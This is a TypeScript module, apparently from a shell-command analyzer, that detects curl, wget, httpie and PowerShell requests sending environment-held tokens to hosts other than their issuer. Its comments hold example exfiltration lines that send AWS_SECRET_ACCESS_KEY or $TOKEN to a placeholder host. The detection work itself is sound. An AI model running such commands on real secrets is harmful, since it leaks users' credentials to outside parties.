import type { Word } from '../../shell/command.js';
import type { Running } from '../command/running.js';
import { textOf } from '../../shell/command.js';
import { emitResource } from '../command/emit.js';
import { readArguments } from '../command/arguments.js';
import { variablesIn } from '../output/revealed/shown-variables.js';
import { rowFor } from '../programs/lookup/row-for.js';
import { hostsOf, isNamedAfter, isOf, issuerOfPrinted, issuerOfVariable, poses } from './issuer-hosts.js';
import { shownHeaders } from './shown-headers.js';

const VARIABLE = /\$\{?([A-Z][A-Z0-9_]*)/g;

/** A header as httpie takes it: `Authorization:"Bearer $T"`. */
const HEADER_ITEM = /^["']?[\w-]+:(?![=/])/;

/** Options with which the next word goes into a header, also behind others of one letter (`-sH`) that take no value. */
const PROVES_BY_NEXT = /^(?:-[fsSLkivgjlIaqGN0-6#]*[Hu]|--header|--user)$/;

/** `curl "https://x.test/?k=$AWS_SECRET_ACCESS_KEY"`: a token that somebody else gave out goes to a host, in its address or as data. In a header it may be for a service of the same issuer, unless the host only poses as one. */
export function foreignTokens(program: string, args: readonly Word[], running: Running): void {
  if (program === 'curl') shownHeaders(args, running);
  const isHeader = (word: Word, before: string): boolean =>
    PROVES_BY_NEXT.test(before) ||
    /^(?:-H.|--header=|-u.|--user=)/.test(word.written) ||
    (!/^(?:curl|wget)/.test(program) && HEADER_ITEM.test(word.written));
  tellForeign(args, { addresses: addressesOf(program, args), isHeader }, running);
}

/** `Invoke-RestMethod -Uri https://x.test -Body $env:TOKEN`: the same of PowerShell, whose headers stand behind a parameter. */
export function requestedTokens(args: readonly Word[], running: Running): void {
  let parameter = '';
  const headers = new Set<Word>();
  for (const word of args) {
    if (/^-[A-Za-z]+$/.test(word.written)) parameter = word.written.toLowerCase();
    else if (/^-(?:headers|token|credential)$/.test(parameter)) headers.add(word);
  }
  tellForeign(args, { addresses: args.filter(({ written }) => written.includes('://')), isHeader: (word) => headers.has(word) }, running);
}

interface Requested {
  readonly addresses: readonly Word[];
  /** Whether a word, behind another, proves to the host who asks. */
  readonly isHeader: (word: Word, before: string) => boolean;
}

function tellForeign(args: readonly Word[], { addresses, isHeader }: Requested, running: Running): void {
  const all = addresses.flatMap(hostsOf);
  if (all.length === 0) return;
  const printed = args.flatMap((word) => (addresses.includes(word) ? [] : commandsIn(word, running)));
  for (const issuer of new Set(printed.map(issuerOfPrinted))) {
    if (issuer !== undefined && all.some((host) => !isOf(issuer, host, running) && !isNamedAfter(issuer, host))) {
      emitResource('send', 'credential', 'token', running);
    }
  }
  args.forEach((word, index) => {
    if (word.values[0].certainty === 'certain' || !word.written.includes('$')) return;
    // What is no address goes to all of them.
    const own = addresses.includes(word) ? hostsOf(word) : [];
    const hosts = own.length > 0 ? own : all;
    const written = [...word.written.matchAll(VARIABLE)].map(([, name = '']) => name);
    for (const name of new Set([...written, ...variablesIn(word), ...printedIn(word, running)])) {
      const issuer = issuerOfVariable(name);
      if (
        issuer !== undefined &&
        hosts.some((host) => (isHeader(word, textOf(args[index - 1])) ? poses(issuer.domains, host) : !isOf(issuer, host, running)))
      ) {
        emitResource('send', 'credential', name, running);
      }
    }
  });
}

/** The commands whose output stands in a word, also by a variable that took it in. */
function commandsIn({ from, written, values }: Word, { frame }: Running): readonly string[] {
  if (!written.includes('$')) return [];
  const direct = (from ?? []).map(({ words }) => words.map(textOf).join(' '));
  const held = [...frame.analysis.outputs.held].filter(([name]) => values.some(({ origins }) => origins?.includes(`output ${name}`)));
  // Of those that a variable took in, what they were asked for is not known any more.
  return [...direct, ...held.flatMap(([, effects]) => effects.flatMap(({ program }) => (program.startsWith('az ') ? [] : program)))];
}

/** Variables that commands print into a word: `$(echo $TOKEN | base64)`. */
function printedIn({ from }: Word, { frame }: Running): readonly string[] {
  const printed = (from ?? []).flatMap((each) => frame.analysis.outputs.printed.get(each) ?? []);
  return printed.flatMap(({ target }) => (target.kind === 'resource' && target.resource === 'environment' ? [target.name] : []));
}

/** The operands, and values of options that are addresses: not the names of files. */
function addressesOf(program: string, args: readonly Word[]): readonly Word[] {
  const row = rowFor(program);
  if (row === undefined) return [];
  const given = readArguments(program, row, args, rowFor);
  return [...given.operands, ...given.valued.flatMap(({ option, word }) => (given.options[option] === 'url' ? [word] : []))];
}
